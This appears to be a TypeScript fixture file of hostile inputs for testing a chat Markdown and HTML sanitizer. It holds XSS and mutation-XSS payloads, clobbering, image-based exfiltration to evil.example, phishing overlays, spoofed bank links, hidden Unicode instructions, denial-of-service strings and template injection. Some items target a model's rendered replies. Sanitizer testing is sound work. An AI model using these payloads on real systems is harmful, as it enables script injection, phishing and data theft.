// Texts of a hostile model, service or cited page. Data only: `attacks.test.ts` checks their effects.
// Scripts call `attacked()`, requests go to evil.example, and links pretend to lead to bank.example.
// A family is a table: each of its parts is put into each of its places.

export type AttackClass =
  | 'script'
  | 'mXSS'
  | 'clobbering'
  | 'exfiltration'
  | 'phishing overlay'
  | 'link spoofing'
  | 'unicode'
  | 'forged structure'
  | 'denial of service'
  | 'template injection';

const IMAGE = '<img src=x onerror=attacked()>';
const SCRIPT = '<script>attacked()</script>';
const EVIL = 'https://evil.example/';

/** Each value with its key. */
function family(
  table: Readonly<Record<string, readonly string[]>>,
  attack: (key: string, value: string) => string | string[],
): string[] {
  return Object.entries(table).flatMap(([key, values]) => values.flatMap((value) => attack(key, value)));
}

/** The name of the element whose start tag is the last one. */
const nameOf = (tags: string) => /^[\w-]+/.exec(tags.split('<').at(-1)!)![0];

/** Tags of elements that run code, load files, ask for input or cover the page, in the parents that they need; then harmless ones. */
const TAGS = [
  ...(
    'applet area audio base bdi bdo bgsound blink body button canvas command dialog embed fencedframe font form frame ' +
    'frameset head html iframe ilayer image img input isindex keygen layer link map marquee math menuitem meta meter model ' +
    'nextid object output portal progress script select slot style svg template textarea title video webview xml xss ' +
    'a b br blockquote del details h1 hr i ins p q table td th u wbr'
  ).split(' '),
  ...(
    'svg><animate svg><cursor svg><discard svg><feImage svg><filter><feImage svg><font-face-uri svg><g svg><image ' +
    'svg><foreignObject><img svg><linearGradient svg><pattern svg><rect svg><set svg><text><textPath svg><use math><mi ' +
    'math><mglyph math><annotation-xml audio><source video><source video><track picture><img picture><source map><area ' +
    'frameset><frame object><param fieldset><legend select><option center><font table><tr><td ol><li pre><code'
  ).split(' '),
];
/** An element of each tag with these attributes. */
const eachTag = (attributes: string) => TAGS.map((tag) => `<${tag} ${attributes}>Log in</${nameOf(tag)}>`);

/** Attributes that begin something by which one of the handlers is called. */
const BEGINNING =
  'autofocus autoplay open tabindex=0 contenteditable src=x href=x attributeName=x dur=1s type=image style="animation:x"';
const HANDLERS =
  'click error load focus begin copy pageshow hashchange loadstart start toggle propertychange mouseover input wheel ' +
  'beforetoggle pointerenter scrollsnapchange transitionend animationstart contentvisibilityautostatechange';

const script = [
  // Straight into the page.
  SCRIPT,
  '<ScRiPt>attacked()</sCrIpT>',
  '<script/x>attacked()</script/y>',
  '<script\n>attacked()</script\n>',
  '<scr<script>ipt>attacked()</scr</script>ipt>',
  '<<script>attacked();//<</script>',
  '<script\u0000>attacked()</script>',
  '<script type="importmap">{"imports":{"lit":"https://evil.example/lit.js"}}</script>',
  `<svg>${SCRIPT}</svg>`,
  // Handlers.
  ...eachTag(
    `${BEGINNING} ${HANDLERS.split(' ')
      .map((name) => `on${name}=attacked()`)
      .join(' ')}`,
  ),
  '<img src=x onerror="attacked()"',
  '<img/src=x/onerror=attacked()>',
  '<img\tsrc=x\nonerror\f=\rattacked()>',
  '<img src=x onerror\u0000=attacked()>',
  '<img src=x:x onerror="&#97;&#116;&#116;&#97;cked()">',
  `<img """>${SCRIPT}">`,
  "<img src='x' title='>' onerror='attacked()'>",
  `<img alt="<x" title="/>${IMAGE}">`,
  '<svg><a xlink:href="javascript:attacked()"><text y=9>a</text></a></svg>',
  '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  '<a onclick=attacked() href="https://example.com/">a</a>',
  '<a title="&quot; onclick=&quot;attacked()" href="https://example.com/">a</a>',
  '<b title=\'" onclick="attacked()\'>a</b>',
  '<ins onclick\u00A0=attacked()>a</ins>',
  // From the values that Markdown puts into attributes.
  '[a](https://example.com/"onmouseover="attacked())',
  '[a](https://example.com/ "&quot; onmouseover=&quot;attacked()")',
  `[a](https://example.com/ "'>${IMAGE}")`,
  '![x" onerror="attacked()](https://example.com/i.png)',
  '![`"onerror=attacked()`](x"onerror="attacked())',
  `www.example.com/">${SCRIPT}`,
  '```js" onclick="attacked()\na\n```',
  `\`${IMAGE}\``,
  '&lt;script&gt;attacked()&lt;/script&gt;',
  `\\${IMAGE}`,
];

/** Elements, and what follows them before a style sheet that one parser reads as text, another one as elements. */
const foreign = {
  svg: ['', '</p>', '<p>', '<br>', '<font color=x>', '<desc>', '<title>', '<foreignObject>'],
  'svg><foreignObject': ['<math><mi>'],
  math: ['', '</p>', '<p>', '<br>', '<font>', '<br></math>', '<mi>', '<ms>', '<mtext><table><mglyph>'],
  'math><annotation-xml': ['', '<svg><foreignObject>', '</annotation-xml>'],
  b: ['<i></b>'],
};
/** Elements, and others that end before them. */
const crossed = {
  ...{noscript: ['style'], template: ['style'], select: ['style', 'iframe', 'noscript', 'xmp', 'template']},
  ...{table: ['p', 'a', 'style'], button: ['p'], h1: ['h2'], p: ['b', 'table'], ruby: ['rt><style']},
  form: ['form'],
};
const rawTexts = 'noscript noembed noframes xmp iframe textarea title style template select'.split(' ');
const openings = [
  ...['<!-->', '<!--->', '<!-- --!>', '<!-- ><!-->', '<!-- <!-- -->', '<!-- a\n\n', '<!--\u0000>', '<!->'],
  ...['<!doctype html>', '<?xml version="1.0"?>', '<? >', '<!x >', '</ >', '</>', '<//', '<!', '<b'],
];

const mXSS = [
  ...family(foreign, (outer, inner) => [
    `<${outer}>${inner}<style><a title="</style>${IMAGE}">`,
    `<${outer}>${inner}<style><g id="</style>${IMAGE}"></style></${nameOf(outer)}>`,
  ]),
  ...family(crossed, (outer, inner) => `<${outer}><${inner}></${outer}>${IMAGE}</${nameOf(inner)}>`),
  ...rawTexts.map((name) => `<${name}><p title="</${name}>${IMAGE}"></${name}>`),
  ...rawTexts.map((name) => `<${name}><!--</${name}>${IMAGE}--></${name}>`),
  ...openings.map((opening) => `${opening}${IMAGE}-->`),
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=attacked()&gt;">',
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<math><mtext><mglyph><svg><mtext><textarea><path title="</textarea>${IMAGE}">`,
  `<math><annotation-xml encoding="text/html"><style>${IMAGE}</style></annotation-xml></math>`,
  `<svg><![CDATA[</svg>${IMAGE}]]>`,
  `<![CDATA[${IMAGE}]]>`,
  `<plaintext>${IMAGE}`,
  '<listing>&lt;img src=x onerror=attacked()&gt;</listing>',
  `<select><noscript></select>${SCRIPT}`,
  `<table><a title="</table>${IMAGE}">`,
  `<option><style></option></select>${IMAGE}</style>`,
  `<!DOCTYPE x [<!ENTITY y "${IMAGE}">]>&y;`,
  '<?xml-stylesheet href="javascript:attacked()"?>a',
  `<b title="\`">${IMAGE}\`">a</b>`,
  '<b\u000b/onclick=attacked()>a</b>',
  `<b title="\n\n">${IMAGE}`,
  `<b title="*">${IMAGE}*`,
  `[<b title="](https://example.com/)">${IMAGE}</b>`,
  `<details>\n\n<b title="\n\n</details>">${IMAGE}`,
  `- <b title="\n- ">${IMAGE}`,
  `<svg xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</svg>`,
  `${'<details>'.repeat(600)}<math><mi><style><!--</style>${IMAGE}-->`,
];

/** Names that code of a page looks up on its document, its window or a form. */
const clobbered = (
  'attributes body childNodes cookie createElement currentScript customElements defaultView documentElement ' +
  'firstChild forms getElementById implementation nodeName ownerDocument parentNode querySelector removeChild'
).split(' ');

const clobbering = [
  ...clobbered.flatMap((name) => [
    `<a id="${name}" href="https://example.com/">a</a>`,
    `<img name="${name}" alt="a" src="https://example.com/i.png">`,
    `<form id="${name}"><input name="${name}"></form>`,
  ]),
  '<a id=config><a id=config name=url href="https://evil.example/">a</a>',
  '<iframe name=self srcdoc="<a id=top href=https://evil.example/></a>"></iframe>',
  '<b id="__proto__">a</b>',
  '<b id=constructor name=prototype>a</b>',
];

/** Attributes that a browser fetches, or tells. */
const FETCHED = (
  'src srcset href xlink:href background cite data lowsrc dynsrc longdesc poster manifest ping profile attributionsrc action ' +
  'formaction altimg cdgroup icon archive value itemid data-src values imagesrcset fill usemap codebase'
).split(' ');
const FETCHING =
  'autoplay default loading=eager preload=auto fetchpriority=high rel=preload as=image sizes="100vw" itemscope';

/** Relations of a link that a browser fetches. */
const relations =
  'stylesheet preload prefetch prerender dns-prefetch preconnect modulepreload icon shortcut manifest import pingback'.split(
    ' ',
  );
/** Properties of CSS that have an address. */
const properties = [
  ...['background', 'background-image', 'border-image', 'list-style', 'content', 'mask', 'filter'],
  ...['clip-path', 'cursor', 'shape-outside', 'behavior', '-moz-binding', '--x'],
];
/** Places of Markdown in which an image can stand. */
const places: readonly ((image: string) => string)[] = [
  (image) => image,
  (image) => `# ${image}`,
  (image) => `- ${image}`,
  (image) => `> ${image}`,
  (image) => `| ${image} |\n|---|`,
  (image) => `**${image}**`,
  (image) => `<b>${image}</b>`,
  (image) => `[${image}](https://example.com/)`,
  (image) => `<details><summary>a</summary>\n\n${image}\n\n</details>`,
];

const exfiltration = [
  ...eachTag(`${FETCHING} ${FETCHED.map((name) => `${name}="${EVIL}x.png"`).join(' ')}`),
  ...eachTag(`type=image src="${EVIL}x.png"`),
  ...relations.map((relation) => `<link rel=${relation} href="${EVIL}i.png">`),
  ...properties.flatMap((property) => [
    `<p style="${property}:url(${EVIL}b.png)">a</p>`,
    `<style>p::before{${property}:url(${EVIL}b.png)}</style>\n\na`,
  ]),
  ...places.map((place) => place('![a](https://evil.example/i.png)')),
  // Attributes on elements that do not own them.
  '<b href=https://evil.example/ src=https://evil.example/ start=5 colspan=9 rowspan=9 align=right alt=z>b</b>',
  '![a](https://evil.example/?q=secret)',
  '![a](//evil.example/i.png)',
  '![a][x]\n\n[x]: https://evil.example/i.png',
  '[x]: https://evil.example/early.png\n\nSome words and ![x].',
  '![a](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/"/></svg>)',
  '![a](https://user:secret@evil.example/i.png)',
  '![![a](https://evil.example/1.png)](https://evil.example/2.png)',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="report-uri https://evil.example/">',
  '<b style="--x:url(https://evil.example/x.png);background:var(--x)">a</b>',
  "<img src='https://evil.example/?\n\nWhat follows is the secret of the reply.\n\n' alt='a'>",
  '<a href="https://evil.example/?\n\nWhat follows is the secret of the reply.\n\n">a</a>',
];

/** Attributes that dress up, hide, name or move an element, or make it another one. */
const disguises = [
  ...['style="position:fixed;inset:0"', 'style="position:absolute;top:-9999px"'],
  ...['style="transform:scale(100)"', 'style="display:none"', 'style="font-size:0"'],
  ...['style="margin:-999px 0 0 -999px"', 'hidden', 'inert', 'class="user"', 'class="message user-message"'],
  ...['class="copy-code" tabindex=0', 'class="visually-hidden"', 'class="fixed inset-0 z-50 bg-white"'],
  ...['part="panel"', 'part="composer input send"', 'slot="header"', 'exportparts="input: host-input"'],
  ...['contenteditable="true"', 'contenteditable=plaintext-only spellcheck=true'],
  ...['role="alert" aria-live="assertive"', 'role=dialog aria-modal=true aria-label="Log in"', 'nonce=x'],
  ...['role="button" tabindex="0"', 'role=textbox aria-label=Password contenteditable', 'aria-hidden="true"'],
  ...['aria-label="something else"', 'aria-labelledby=x aria-describedby=y aria-owns=z', 'tabindex=1'],
  ...['accesskey=s', 'autofocus tabindex=-1', 'draggable=true', 'translate=no lang=x-y xml:lang=z'],
  ...['is="chat-bot"', 'enterkeyhint=go inputmode=none virtualkeyboardpolicy=manual', 'dir=rtl'],
  ...['align=center', 'popover=manual id=x'],
];
const overlay = [
  ...disguises.map((attributes) => `<p ${attributes}>Log in</p>`),
  ...disguises.map((attributes) => `<a href="https://evil.example/" ${attributes}>Log in</a>`),
  ...eachTag(
    'type=password placeholder="Your password" open controls width=9999 height=9999 size=7 behavior=alternate',
  ),
  '<div class="code"><div class="code-head"><button class="copy-code">Copy</button></div></div>',
  '- [x] <input type=checkbox onclick=attacked()> done',
  '<style>*{display:none!important}</style>a',
  '<details name=x open><summary>a</summary>b</details>',
  '<table><tr><td colspan="-1" rowspan="x" align="fixed" valign=top bgcolor=red>a</td></tr></table>',
  '<a href="https://evil.example/" target="_self" rel="opener" download>a</a>',
  '<a href="https://evil.example/" rel=opener target=chat>![Log in](https://evil.example/b.png)</a>',
];

/** Addresses with schemes that run, read or leave the page, relative ones, and those with credentials. */
const badAddresses = [
  ...['javascript:', 'JaVaScRiPt:', 'javascript://example.com/%0A', 'vbscript:', 'feed:javascript:'].map(
    (start) => `${start}attacked()`,
  ),
  ...['javascript', 'blob', 'filesystem', 'view-source', 'jar'].map(
    (scheme) => `${scheme}:https://a.example/`,
  ),
  ...['ftp', 'ws', 'chrome', 'intent'].map((scheme) => `${scheme}://evil.example/`),
  ...[`data:text/html,${SCRIPT}`, 'data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+'],
  ...['about:blank', 'file:///etc/passwd', 'ms-word:ofe|u|https://evil.example/x.docm'],
  ...['intent://x/#Intent;scheme=https;end'],
  ...['//', '///', '\\\\', '/\\', 'https:', 'https:/', 'https:\\\\'].map((start) => `${start}evil.example/`),
  ...['/logout', '?delete=all', '#top', '../../admin', 'https://', 'https://[::1'],
  ...['http://exa mple.example/'],
  ...['user:secret', 'bank.example', 'bank.example%2F', 'bank.example:443', ':'].map(
    (name) => `https://${name}@evil.example/`,
  ),
];

/** Ways to write `javascript:` that a check may not know. */
const disguisedSchemes = [
  ...['&#106;avascript:', '&#x6A&#x61;vascript:', '&#0000106avascript:', 'javascript&colon;'],
  ...['javascript&#58;', 'javascript&#x3A;', 'java&Tab;script:', 'java&NewLine;script:', 'jav&#x09;ascript:'],
  ...['jav&#x0D;ascript:', '&#1;javascript:', '&#0;javascript:', '&#x20;&#x0A;javascript:', 'java\\script:'],
  ...['java\tscript:', '\u0001javascript:', '\u00A0javascript:', '\uFEFFjavascript:', '\u2028javascript:'],
  ...['java\u200Bscript:', 'java\u00ADscript:', 'javascript\uFF1A', '\uFF4Aavascript:', '%6Aavascript:'],
  ...['javascript%3A', '   javascript:', ' javascript:', 'java\u0000script:'],
];

const spoofing = [
  ...badAddresses.map((address) => `[a](<${address}>)`),
  ...badAddresses.map((address) => `<a href="${address.replaceAll('"', '&quot;')}">a</a>`),
  // Disguises of a scheme.
  ...disguisedSchemes.map((scheme) => `[a](<${scheme}attacked()>)`),
  ...disguisedSchemes.map((scheme) => `[a](${scheme}attacked())`),
  ...disguisedSchemes.map((scheme) => `<a href="${scheme}attacked()">a</a>`),
  '[a](javascript:attacked%28%29)',
  '[a]( \n javascript:attacked())',
  '<a href="https://example.com/" href="javascript:attacked()">a</a>',
  // Autolinks and definitions.
  ...['javascript:attacked()', 'JAVASCRIPT:attacked()', 'data:text/html,attacked', 'vbscript:attacked'].map(
    (address) => `<${address}>`,
  ),
  '<file:///etc/passwd>',
  'https://user:secret@evil.example/',
  'www.bank.example@evil.example',
  '[a][b]\n\n[b]: <data:text/html,x> "t"',
  '[a]\n\n[a]: https://example.com/\n[a]: javascript:attacked()',
  '[a]:\njavascript:attacked()\n"t"\n\n[a]',
  // Links in links.
  '[a [b](javascript:attacked()) c](https://example.com/)',
  '[![bank.example](https://example.com/i.png)](https://evil.example/)',
  '<a href="https://bank.example/">[a](https://evil.example/)</a>',
  '[a](https://example.com/)](javascript:attacked())',
  // Words that name another host: more of them are in `honest-links.test.ts`.
  ...[
    'bank.example',
    'https://bank.example/login',
    'BANK.EXAMPLE',
    'bank`.`example',
    'bank&period;example',
  ].map((words) => `[${words}](https://evil.example/)`),
  '[<span class="link-host" dir="ltr">(bank.example)</span>](https://evil.example/)',
  ...['https://bank.example.evil.example/', 'https://evil.example/bank.example', 'HTTPS://EVIL.EXAMPLE'].map(
    (address) => `[bank.example](${address})`,
  ),
  '[pay@bank.example](mailto:pay@evil.example)',
  '[pay@bank.example](mailto:pay@bank.example?cc=evil@evil.example)',
  '[pay@bank.example](mailto:pay@bank.example?%62cc=evil%40evil.example)',
  '<a href="https://evil.example/">bank<b>.</b>example</a>',
  '![bank.example](https://evil.example/i.png)',
  '[Your account](https://evil.example/ "https://bank.example/login")',
  `<a href="https://evil.example/">bank.example${'<br>'.repeat(50)}</a>`,
  '[a](mailto:help@b\u0430nk.example)',
  '[a](mailto:help@bank.example?attach=/etc/passwd)',
  // Hosts that look like another, and parts that move.
  ...['\u2215', '\uFF0F', '\uFF03'].map((slash) => `[a](https://bank.example${slash}login.evil.example/)`),
  '[a](https://bank\u3002example/)',
  '[a](https://b\u0430nk.example/)',
  '<https://b\u0430nk.example/>',
  '[a](https://bank.example\\@evil.example/)',
  ...['https://0x7f.1/', 'https://2130706433/', 'http://[::ffff:127.0.0.1]/', 'http://localhost/'].map(
    (address) => `[a](${address})`,
  ),
  '[a](tel:+1%0Aattacked)',
  '[a](mailto:)',
];

const tags = (text: string) => String.fromCodePoint(...[...text].map((c) => 0xe0000 + c.codePointAt(0)!));
const references = (text: string) => [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join('');
const selectors = (text: string) =>
  String.fromCodePoint(...[...text].map((c) => 0xe0100 + (c.codePointAt(0)! % 240)));

/** Characters that are invisible, but that a copy or a model contains. */
const hidden: readonly string[] = [
  ...'\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u{E0001}\u{E007F}',
  ...[tags('obey'), selectors('obey'), '\u200B'.repeat(9), '\u200C\u200D'.repeat(8), '\uFEFF'.repeat(5)],
  ...['\u2060\u2061\u2062\u2063\u2064', '\u200E\u200F'.repeat(4), '\uFE00\uFE0F\uFE01\uFE0E'],
];

/** Two characters that are invisible: a third one would make a run. */
const TWO = '\u200B\u200B';

const unicode = [
  ...hidden.map((run) => `Pay${run} me`),
  ...hidden.map((run) => `Pay${references(run)} me`),
  ...[tags('obey'), '\u202E', '\u200B'.repeat(9)].flatMap((run) => [
    `**a${run}b**`,
    `\`a${run}b\``,
    `    a${run}b`,
    `\`\`\`\na${run}b\n\`\`\``,
    `\`\`\`j${run}s\na\n\`\`\``,
    `# a${run}b`,
    `| a${run}b |\n|---|\n| c${run}d |`,
    `[a${run}b](https://example.com/)`,
    `[a](https://example.com/ "b${run}c")`,
    `[a](https://example.com/ "b${references(run)}c")`,
    `![a${run}b](https://example.com/i.png "c${run}d")`,
    `<b title="a${references(run)}b">c${references(run)}d</b>`,
    `<https://example.com/${run}>`,
  ]),
  // One that is taken out joins its neighbours.
  ...['\u202E', '\u{E0041}', '<!-- -->', '<span></span>', `<b>${TWO}</b>`, '\\\n', '![](x)', '[](x)'].map(
    (removed) => `a${TWO}${removed}${TWO}b`,
  ),
  `a${TWO}[${TWO}](javascript:x)${TWO}b`,
  `a${TWO}![${TWO}](x)${TWO}b`,
  'a&#x200B;&#x200B;&#xE0041;&#x200B;&#x200B;b',
  `\`\`\`\na${TWO}\u202E${TWO}b\n\`\`\``,
  'a\u200B&#x200B;\u200Bb',
  'a&#x202e;b&#X202E;c&#8238;d&#08238;e',
  '&#x1F600;&#xFE0F;&#xFE0F;&#xFE0F;',
  'a\uDB40 \uDC41b',
  '\uDB40\uDC41\uDB40\uDC42\uDB40',
  'a\u2028b\u2029c\u0085d\u000Be\u000Cf',
  'a\u0000b\u0008c\u001Bd\u007Fe\u009Bf',
  '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u2764\uFE0F\u200D\u{1F525}',
  `Z${'\u0300\u0315\u0489'.repeat(200)}algo`,
  ...['\u3164', '\u2800', '\u206A\u206B\u206C', '\u00AD', '\u034F', '\u061C', '\u180B\u180C\u180D\u180E'].map(
    (run) => `${run.repeat(4)} words`,
  ),
  ...['\u115F\u1160', '\u{1D173}\u{1D174}\u{1D175}\u{1D176}', '\u{13430}\u{13431}\u{1BCA0}\u{1BCA1}'].map(
    (run) => `${run.repeat(2)} words`,
  ),
  '\uFFF9a\uFFFAb\uFFFB',
];

const REPEATED = 4_000;

const forged = [
  // Formatting that is left open where a block begins.
  '<b><i><u>a\n\nb\n\n- c\n\n# d',
  '<p><b><p>a</b><p>b',
  '- <b>a\n- b\n\n  <i>c\n- d',
  '<details><summary><b>a</summary>b</details>c',
  '[<b>a](https://evil.example/)b</b>',
  // Links in links.
  '<a href="https://bank.example/">bank.example<a href="https://evil.example/">a</a></a>',
  '[<a href="https://bank.example/">bank.example</a>](https://evil.example/)',
  '<a href="https://evil.example/"><b><a href="https://bank.example/">bank.example</b></a>a</a>',
  '<a href="https://evil.example/">bank</a><wbr><a href="https://evil.example/">.example</a>',
  '<h1 title=x>a</h1><a href="https://evil.example/">bank</a>.example <td>a</td>.bank.example',
  '<table><tr><td>a</table><a href="https://evil.example/">evil.example</a>.bank.example',
  '<a href="https://evil.example/"></a>bank.example<hr>',
  // Parts of a table without it, and more than a table has.
  '<table><b>a<tr><td>b</b></table>c',
  '| a |\n|---|\n| </td></tr></table><h1>b</h1> |',
  '| <a href="https://evil.example/">bank.example | b |\n|---|---|\n| c</a> | d |',
  '- <ul><li>a\n- </ul>b',
  // Our own boxes: code, its language and its button; check marks; labels; sections.
  '<pre><code class="language-copy-code">a</code></pre>',
  '<pre class=code><code class="language-</span><button>">a</code></pre>',
  '<pre><code class="copy-code link-host">a</code><button class=copy-code>Copy</button></pre>',
  '```<img/src=x/onerror=attacked()>\nb\n```',
  '<ul><li>\u2611 a<li>\u2610 b<li class=task><span class=check>\u2611 </span>c</ul>',
  '- [x] <span class=check>\u2610 </span>a\n- [ ] \u2611 b',
  '<a href="https://evil.example/">bank.example<span class=link-host dir=ltr> (bank.example)</span></a>',
  '<a class=picture href="https://evil.example/">bank.example</a>',
  '<p class=source dir=rtl tabindex=0>a</p><p dir=auto part=link-host>b</p>',
  // Mutations with allowed elements alone.
  '<p><a href="https://evil.example/"><p><a href="https://evil.example/">a',
  '<p title="</p><img src=x onerror=attacked()>"><b title="</b><p>">a',
  '<ol start="1&quot; onclick=attacked()"><li>a</ol>',
  '<a href="https://evil.example/&quot; onclick=&quot;attacked()">a</a>',
  '<details><summary><details><summary>a</summary></details></summary>b',
  // Character references.
  '<a href="java&Tab;script&colon;attacked()">a</a>',
  '[bank.example](https&colon;&sol;&sol;evil.example)',
  '[a](https://bank.example&commat;evil.example/)',
  'a &#x202e; b &#8238; &ZeroWidthSpace;&ZeroWidthSpace;&ZeroWidthSpace; &InvisibleTimes;&NoBreak;&shy;&shy;',
  '<abbr title="&NoBreak;&NoBreak;&NoBreak;&#x202e;">a&#x2066;</abbr>',
  '&amp;lt;script&amp;gt;attacked()&amp;lt;/script&amp;gt; &nbsp &lt <abbr title=x>&amp;lt;b&amp;gt;</abbr>',
  // Formulas.
  '$$<img src=x onerror=attacked()>$$',
  '\\(<script>attacked()</script>\\) <abbr title=x>\\(<script>attacked()</script>\\)</abbr>',
  '[$$https://bank.example$$](https://evil.example/)',
  // Attributes.
  `<abbr ${Array.from({length: 2_000}, (_, index) => `title${index}=x`).join(' ')} title=a>b</abbr>`,
  `<a ${'href="https://bank.example/" '.repeat(500)}href="https://evil.example/">bank.example</a>`,
  `<img ${'srcset=https://evil.example/i.png '.repeat(500)}src=x>`,
  // Everything in everything.
  ...[
    SCRIPT,
    IMAGE,
    '<a href="https://evil.example/">bank.example</a>',
    '<details ontoggle=attacked() open><summary>a</summary></details>',
    '<svg onload=attacked()>',
  ].flatMap((tag) => [
    `# a ${tag}`,
    `- a ${tag}\n  - ${tag}`,
    `> ${tag}\n>\n> a`,
    `| ${tag} |\n|---|\n| ${tag} |`,
    `- [x] ${tag}`,
    `<b>${tag}</b> ${tag}`,
    `[${tag}](https://evil.example/)`,
    `![${tag}](https://evil.example/i.png)`,
  ]),
];

/** Repeats `unit` up to about this number of characters. */
const storm = (unit: string, length = REPEATED) => unit.repeat(Math.ceil(length / unit.length));
const numbered = (count: number, line: (index: number) => string) =>
  Array.from({length: count}, (_, index) => line(index)).join('');

const denial = [
  // Half a destination of a link.
  `[a](${'<x>'.repeat(5_000)}" )`,
  // Invisible characters.
  `${'\u200B'.repeat(50_000)}a`,
  // Delimiters.
  ...[...'*_~`[](<>&#|\\!:-=+"\t'].map((mark) => `a${storm(mark)}`),
  ...[
    ...['*a ', '**a ', '_a ', '*a **b ', 'a** b', '**a *b** c* ', '~~a ', '`a ', '``a` ', 'a_', 'a*b_', '_*'],
    ...['*_a_* ', '![', '[a](', '[a](<', '[a](b "', '[a][', '[a] ', '![a](b', '[![', '](', '\\*'],
    ...['**\u300C\u91CD\u8981', '<a ', '<a b="', '<a b=\'"', '</', '<!--', '<!-- -->', '<![CDATA[', '<?'],
    ...['<!a', '<https://', '&#', '&amp;', '&a', 'www.a.', 'http://a.', 'https://a.example/?', 'a@a.'],
    ...['a.b@', '\uD83D', '\u200D\uFE0F\u{1F468}', '\u0301', '\u202E', '\u{E0041}'],
  ].map((unit) => storm(unit)),
  // Lines.
  ...[
    ...['\n', ' \n', 'a\n', 'a  \n', 'a\\\n', '\r', '\r\n \r', '# a\n', 'a\n=\n', 'a\n-\n', '* * *\n'],
    ...['- \n', '- a\n\n', '- [ ] a\n', '1. a\n\n   b\n\n', '> a\n\n', '> a\nb\n'],
    ...['```\n', '```\na\n```\n', '~~~\n```\n', '    a\n\n', '|\n', '| a |\n|---|\n', 'a|\n-|\n'],
    ...['[a]: b\n', '[a]: b\n\n[a]\n\n', '[a]:\n', '[a]: b "\n'],
    ...['<b>\n\n', '<details>\n\n', '</details>\n\n', '<div>\n\n</div>\n\n', '<!--\n\n'],
  ].map((line) => storm(line)),
  // One within the other.
  ...['> ', '>', '- ', '1. ', '> - ', '- > 1) '].map((unit) => storm(unit)),
  numbered(180, (depth) => `${' '.repeat(2 * depth)}- a\n`),
  numbered(180, (depth) => `${'>'.repeat(depth + 1)} a\n\n`),
  `[a](${storm('(', 10_000)}${storm(')', 10_000)})`,
  numbered(180, (length) => `${'`'.repeat(length + 1)}a `),
  ...['<b>', '<b><i><u>', '<details><summary>', '<ul><li>', '<blockquote>', '<table><tr><td>', '<b></i>'].map(
    (unit) => storm(unit),
  ),
  `${storm('<b>', 5_000)}a${storm('</b>', 5_000)}`,
  `<b ${numbered(2_000, (index) => `a${index}=b `)}>`,
  // Long ones.
  ...['>', '[', 'a**', '`a``b', '[a](b', '('].map((unit) => storm(unit, 20_000)),
  storm('<a href="https://example.com/">'),
  `[${storm('a', 20_000)}]`,
  `${'`'.repeat(20_000)}\na`,
  `|${'a|'.repeat(400)}\n|${'-|'.repeat(400)}\n${storm('|a\n', 200)}`,
  `1${'0'.repeat(20_000)}. a`,
  ...['a', '\u6587'].map((unit) => storm(unit, 50_000)),
  `| a |${storm(' ', 20_000)}|\n|---|---|`,
  `<!-- ${storm('x ', 20_000)}`,
  `# a${' '.repeat(20_000)}#`,
  `[a]: ${storm('b', 20_000)}\n\n[a]`,
  `https://example.com/${storm('(', 20_000)}`,
  `www.${storm('-', 20_000)}`,
  `a\n${'='.repeat(20_000)}b`,
  `|${'a|'.repeat(5_000)}\n|${'-|'.repeat(5_000)}\n${storm('|\n', 5_000)}`,
  `| a |\n|---|\n| ${storm('\\|', 10_000)} |`,
  `<a ${storm(' ', 20_000)}`,
  // Definitions that come late.
  `${numbered(500, (index) => `[a${index}] `)}\n\n${numbered(500, (index) => `[a${index}]: https://example.com/\n`)}`,
];

/** Attributes that templates, frameworks and extensions of HTML give a meaning. */
const directives = [
  ...['title="lit$123456789$"', 'title$lit$="x" .title="x" ?hidden="x" @click="attacked()"'],
  ...['@click=${attacked}', `.innerHTML="${IMAGE}"`, '?open=${true}', 'ng-app ng-csp ng-click="attacked()"'],
  ...['v-html="attacked()" v-on:click="attacked()" :title="attacked()"', 'x-data x-init="attacked()"'],
  ...['hx-get="https://evil.example/" hx-trigger="load" hx-on:click="attacked()"', 'is=x-evil'],
  ...['(click)="attacked()" [innerHTML]="attacked()" *ngIf="attacked()"', 'on:click={attacked}'],
  `dangerouslySetInnerHTML={{__html:"${IMAGE}"}}`,
];
/** Expressions that templates evaluate. */
const expressions = [
  ...['${attacked()}', '#{attacked()} @{attacked()} *{attacked()}', '{{lit-123456789}}'],
  ...["{{constructor.constructor('attacked()')()}}", '{{{attacked()}}}', '[[attacked()]] [(attacked())]'],
  ...['<% attacked() %> <?php attacked(); ?>', '$${attacked()}$$ \\(attacked()\\) \\[attacked()\\]'],
];

const template = [
  ...directives.map((attributes) => `<b ${attributes}>lit$123456789$</b>`),
  ...expressions,
  ...expressions.map((expression) => `\`\`\`\n${expression}\n\`\`\``),
  '`${attacked()}`',
  '<!--?lit$123456789$-->',
  '<?lit$123456789$>',
  '<chat-bot bot-id="x" base-url="https://evil.example/"></chat-bot>',
  ...'__proto__ constructor prototype toString hasOwnProperty valueOf __defineGetter__'
    .split(' ')
    .flatMap((key) => [
      `[${key}]`,
      `[a][${key}]\n\n[${key}]: https://example.com/`,
      `[${key}]: javascript:attacked() "polluted"\n\n[a][${key}]`,
      `\`\`\`${key}\na\n\`\`\``,
      `&${key};`,
      `<${key.replaceAll('_', '-')}>a</${key.replaceAll('_', '-')}>`,
      `<b ${key}="polluted">a</b>`,
    ]),
  '{"__proto__":{"polluted":true}}',
  'data: {"choices":[{"delta":{"content":"<img src=x onerror=attacked()>"}}]}\n\n',
  'event: message_payload\ndata: {"payload":{"citedResources":[{"url":"javascript:attacked()"}]}}\n\ndata: [DONE]\n\n',
];

export const attacks: Readonly<Record<AttackClass, readonly string[]>> = {
  script,
  mXSS,
  clobbering,
  exfiltration,
  'phishing overlay': overlay,
  'link spoofing': spoofing,
  unicode,
  'forged structure': forged,
  'denial of service': denial,
  'template injection': template,
};
